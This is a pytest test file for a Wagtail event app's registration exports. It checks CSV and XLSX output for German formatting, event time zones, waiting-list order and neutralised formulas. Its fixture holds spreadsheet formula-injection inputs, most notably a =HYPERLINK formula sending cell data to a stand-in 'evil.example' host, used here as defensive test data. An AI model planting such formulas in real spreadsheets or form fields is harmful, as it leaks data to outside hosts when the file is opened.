"""Exports of one date's registrations: safe cells (no live formula), German-friendly (BOM, ``;``,
Ja/Nein), times in the event's zone, the waiting list's order; and the moved helpers still
importable from the consultations' module."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.users.models import UserProfile

from kokreative_wagtail import spreadsheets
from kokreative_wagtail.consultations import exports as consultation_exports
from kokreative_wagtail.events.models import EventPage
from kokreative_wagtail.registrations import dates, seats
from kokreative_wagtail.registrations.forms import extra_field_name
from kokreative_wagtail.registrations.models import Registration

from .factories import create_registration_event, person

pytestmark = pytest.mark.django_db

#: 13:30 UTC: 22:30 in Tokyo, the event's zone below (the admin's is Berlin).
REGISTERED = datetime.datetime(2026, 12, 1, 13, 30, tzinfo=datetime.timezone.utc)
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'


@pytest.fixture
def event():
    """Two seats, four people (two waiting), an extra field; the event in Tokyo's zone."""
    page = create_registration_event(
        seats=2,
        title="Infosalon Größe Übersicht",
        fields=({"label": "Rolle", "field_type": "singleline", "required": False},),
    )
    EventPage.objects.filter(pk=page.pk).update(time_zone="Asia/Tokyo")
    page.refresh_from_db()
    field = page.registration_fields.get()
    role = extra_field_name(field)
    original = dates.date_states(page)[0].original_start
    people = [
        person(1, name=HYPERLINK, organisation="+49 30 1234", data={role: "@SUM(A1)"}),
        person(2, name="Jürgen Groß", organisation="Stadtverwaltung Köln", data={role: "Amt"}),
        person(3, name="-Minus", organisation=" =1+1"),
        person(4, name="Ærøskøbing Ñandú"),
    ]
    registrations = [
        seats.register(
            page=page,
            original_start=original,
            seats=2,
            waiting_list=True,
            double_opt_in=False,
            person=p,
        ).registration
        for p in people
    ]
    Registration.objects.filter(pk=registrations[0].pk).update(created_at=REGISTERED, attended=True)
    return page, registrations


def export_url(page, registration, export_format) -> str:
    return reverse(
        "kokreative_registrations:export", args=[page.pk, registration.date.scope, export_format]
    )


def read_csv(response) -> tuple[bytes, list[list[str]]]:
    raw = response.content
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_neutralised_german_and_in_the_events_zone(admin_client, event):
    page, people = event
    response = admin_client.get(export_url(page, people[0], "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    day = dates.date_states(page)[0].start.astimezone(page.zone).date().isoformat()
    assert f'filename="infosalon-groesse-uebersicht-{day}.csv"' in response["Content-Disposition"]
    raw, table = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    assert raw.splitlines()[0].count(b";") == 8  # 9 columns, German list separator
    heading, rows = table[0], table[1:]
    assert heading[4] == "Rolle"  # the extra field by its label, after the organisation
    assert len(rows) == 4
    # status, name, e-mail, organisation, Rolle, registered, confirmed, position, attended
    first = rows[0]
    assert first[1] == "'" + HYPERLINK  # a formula comes out as text
    assert first[2] == "person1@example.org"
    assert first[3] == "'+49 30 1234"
    assert first[4] == "'@SUM(A1)"
    assert first[5] == "2026-12-01 22:30"  # Tokyo, not UTC and not the admin's Berlin
    assert first[7] == ""  # not waiting
    assert first[8] == "Ja"
    assert rows[1][1] == "Jürgen Groß" and rows[1][3] == "Stadtverwaltung Köln"
    assert rows[1][8] == ""  # attendance not recorded
    # the waiting list follows in its order, with positions
    assert [r[1] for r in rows[2:]] == ["'-Minus", "Ærøskøbing Ñandú"]
    assert [r[7] for r in rows[2:]] == ["1", "2"]
    assert rows[2][3] == "' =1+1"
    for row in rows:
        for cell in row:
            assert cell[:1] not in "=+-@" or cell == ""


def test_english_editor_gets_english_headings_and_commas(admin_client, event):
    page, people = event
    user = admin_client.get(reverse("wagtailadmin_home")).wsgi_request.user
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    raw = admin_client.get(export_url(page, people[0], "csv")).content
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0] == [
        "Status",
        "Name",
        "E-mail address",
        "Organisation",
        "Rolle",
        "Registered",
        "Confirmed",
        "Waiting list position",
        "Attended",
    ]
    assert table[1][8] == "Yes"


def test_xlsx_opens_with_text_cells_and_local_times(admin_client, event):
    page, people = event
    response = admin_client.get(export_url(page, people[0], "xlsx"))
    assert response.status_code == 200
    assert ".xlsx" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    table = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert len(table) == 5
    first = table[1]
    assert first[1] == "'" + HYPERLINK
    assert first[3] == "'+49 30 1234"
    assert first[5] == datetime.datetime(2026, 12, 1, 22, 30)  # a real date, in Tokyo time
    assert table[2][1] == "Jürgen Groß"
    assert [row[7] for row in table[3:]] == [1, 2]
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)
    assert sheet.cell(row=2, column=6).number_format == "dd.mm.yyyy hh:mm"


def test_unknown_format_is_not_found(admin_client, event):
    page, people = event
    assert admin_client.get(export_url(page, people[0], "pdf")).status_code == 404


def test_the_consultations_module_still_offers_the_moved_helpers():
    for name in (
        "clean_text",
        "display_cell",
        "export_cell",
        "export_filename",
        "neutralise_formula",
        "in_locale",
        "yes_no",
        "local_datetime",
        "CSV",
        "XLSX",
        "_Utf8Echo",
    ):
        assert hasattr(consultation_exports, name), name
    assert consultation_exports.clean_text is spreadsheets.clean_text
